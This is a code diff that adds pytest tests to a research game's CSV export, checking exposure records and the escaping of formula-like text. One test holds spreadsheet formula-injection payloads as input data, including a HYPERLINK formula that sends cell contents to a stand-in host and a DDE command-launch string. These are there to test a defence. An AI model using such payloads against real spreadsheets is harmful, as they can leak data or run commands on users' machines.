@@ -14,7 +14,7 @@ from sqlalchemy import select
 
 from imitable.commands.export import export
 from imitable.errors import TablesError
-from imitable.game.views import Round
+from imitable.game.views import Questions, Round
 from imitable.store import open_store, tables
 from imitable.testing import invented_campaign
 from imitable_aggregation import scoring
@@ -176,3 +176,58 @@ def test_a_folder_of_somebody_elses_files_is_not_touched(tmp_path: Path) -> None
     with pytest.raises(TablesError, match="mine"):
         export(tmp_path / "campaign", out=out)
     assert os.listdir(out) == ["thesis.txt"]
+
+
+def test_the_record_says_who_was_shown_which_item_and_when_its_truth_was_revealed(
+    played: Callable[..., Table], tmp_path: Path
+) -> None:
+    here = played()
+    guessed = here.rows(select(tables.guesses.c.episode_id))
+    export(here.folder.path, out=tmp_path / "out")
+    guesses = pd.read_csv(tmp_path / "out" / "guesses.csv")
+    shown = pd.read_csv(tmp_path / "out" / "exposures.csv")
+    assert len(shown) == len(here.rows(select(tables.rounds).where(tables.rounds.c.shown_at.is_not(None))))
+    assert len(shown) >= len(guessed)
+    held_out = shown["phase"] == "held_out"
+    assert shown.loc[held_out, "revealed_at"].isna().all()
+    place = ["annotator_id", "target_id", "item_id"]
+    assert not shown.duplicated(place).any()
+    both = shown.merge(guesses, on=place, suffixes=("", "_guessed"))
+    assert len(both) == len(guesses)
+    practice = both[both["phase"] == "practice"]
+    assert (practice["revealed_at"] == practice["answered_at"]).all()
+    assert (both["shown_at"] <= both["answered_at"]).all()
+
+
+def test_an_item_shown_and_not_answered_yet_is_in_the_record_unrevealed(tmp_path: Path) -> None:
+    folder = invented_campaign(tmp_path / "campaign")
+    here = Table(folder, open_store(folder), 1)
+    here.game.view(here.sit())
+    export(folder.path, out=tmp_path / "out")
+    [row] = pd.read_csv(tmp_path / "out" / "exposures.csv").to_dict("records")
+    assert (row["trial"], row["phase"], pd.isna(row["revealed_at"])) == (1, "practice", True)
+    here.store.close()
+
+
+def test_an_explanation_that_is_a_formula_is_text_in_a_spreadsheet(tmp_path: Path) -> None:
+    folder = invented_campaign(tmp_path / "campaign", practice=1, held_out=0, episodes=1, targets=2)
+    here = Table(folder, open_store(folder), 5)
+    hostile = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"look")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        '@SUM(1+1)\n"quoted", and, commas',
+        "\uff1d1+1",
+    ]
+    for link, text in enumerate(hostile):
+        token = here.sit(link)
+        asked = here.game.view(token)
+        assert isinstance(asked, Round)
+        here.game.guess(token, asked.round_id, "5")
+        after = here.game.view(token)
+        assert isinstance(after, Questions)
+        here.game.answer(token, after.episode_id, fun="1", interest="1", explanation=text)
+    export(folder.path, out=tmp_path / "out", with_text=True)
+    cells = pd.read_csv(tmp_path / "out" / "episodes_played.csv")["explanation"]
+    assert sorted(cells) == sorted(f"'{text}" for text in hostile)
+    here.store.close()
